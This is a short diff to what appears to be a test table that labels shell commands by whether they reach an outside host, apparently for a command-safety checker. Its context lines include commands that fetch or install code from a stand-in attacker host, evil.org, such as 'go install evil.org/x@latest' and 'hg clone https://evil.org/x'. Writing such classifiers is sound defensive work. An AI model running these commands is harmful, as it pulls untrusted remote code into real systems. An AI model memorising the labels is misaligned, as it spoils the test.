@@ -347,6 +347,8 @@ const FACTS: readonly (readonly [condition: string, answers: Readonly<Record<str
       "kubectl apply -f evil.org": "no",
       "go install evil.org/x@latest": "unclear",
       "go get evil.org/x": "unclear",
+      "go install ./cmd": "no",
+      "go get -u x": "no",
       "go build evil.org/x": "no", // what is there already
       "whois -h evil.org x": "yes",
       "hg clone https://evil.org/x": "yes",
